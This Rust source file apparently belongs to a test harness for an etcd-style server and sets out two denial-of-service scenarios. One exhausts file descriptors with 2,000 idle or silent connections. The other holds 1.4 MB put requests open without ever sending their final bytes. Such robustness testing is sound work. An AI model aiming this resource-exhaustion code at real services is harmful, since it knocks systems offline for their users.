//! Attacks by the number of connections, and by what they send and never finish.

use std::{net::SocketAddr, time::Duration};

use anyhow::Context as _;
use bytes::Bytes;
use proto::etcdserverpb::{PutRequest, PutResponse};
use tokio::{net::TcpStream, time::timeout};

use super::PUT;
use crate::{
    raw::{Connection, Windows, framed},
    target::{Outcome, Target},
};

/// More than a soft limit of 1,024 files.
const IDLE: u32 = 2_000;
/// Puts that make a store open files: 64 MiB are more than it gathers in memory.
const LARGE_PUTS: u32 = 100;
const LARGE_BYTES: usize = 1 << 20;
/// A put through all of that.
const PATIENCE: Duration = Duration::from_secs(10);

/// B1: idle connections, half of them silent from the first byte, take all files of a process that starts with a soft
/// limit of 1,024. A client that was there before puts until the store must open files.
pub(crate) async fn idle(target: Target) -> anyhow::Result<Outcome> {
    let early = Connection::open(target.leader(), Windows::WIDE).await?;
    let mut silent = Vec::new();
    let mut greeted = Vec::new();
    for number in 0..IDLE {
        // Refused, or not even taken, is an answer too.
        let Ok(Ok(socket)) = timeout(PATIENCE, connect(target.leader(), number % 2 == 0)).await else {
            continue;
        };
        match socket {
            Socket::Silent(socket) => silent.push(socket),
            Socket::Greeted(connection) => greeted.push(connection),
        }
    }
    let value = Bytes::from(vec![b'x'; LARGE_BYTES]);
    for _ in 0..LARGE_PUTS {
        let put = PutRequest { key: "large".into(), value: value.clone(), ..Default::default() };
        let done = timeout(PATIENCE, early.ask::<PutResponse>(PUT, &put)).await;
        done.context("a put of a connection that was there before")??;
    }
    target.until_end().await;
    Ok(Outcome::quiet())
}

enum Socket {
    Silent(TcpStream),
    Greeted(Connection),
}

async fn connect(address: SocketAddr, silent: bool) -> anyhow::Result<Socket> {
    Ok(if silent {
        Socket::Silent(TcpStream::connect(address).await?)
    } else {
        Socket::Greeted(Connection::open(address, Windows::WIDE).await?)
    })
}

/// Puts that are begun, and what comes of each: just below the largest request.
const HALF_PUTS: u32 = 500;
const HALF_PUT_BYTES: usize = 1_400_000;
/// Of them on one connection.
const PUTS_A_CONNECTION: u32 = 10;

/// B15: puts of 1.4 MB of which the last bytes never come. A server may end some of them; that is an answer.
pub(crate) async fn half_sent(target: Target) -> anyhow::Result<Outcome> {
    let whole = framed(&PutRequest {
        key: "half".into(),
        value: vec![b'x'; HALF_PUT_BYTES].into(),
        ..Default::default()
    });
    let sent = whole.slice(..whole.len() - 100);
    let mut held = Vec::new();
    let mut left = target.count(HALF_PUTS);
    while left > 0 {
        let now = left.min(PUTS_A_CONNECTION);
        left -= now;
        let Ok(connection) = Connection::open(target.leader(), Windows::WIDE).await else { continue };
        for _ in 0..now {
            let Ok(mut call) = connection.open_call(PUT, None).await else { break };
            let _ = call.send(sent.clone(), false);
            held.push(call);
        }
    }
    target.until_end().await;
    Ok(Outcome::quiet())
}
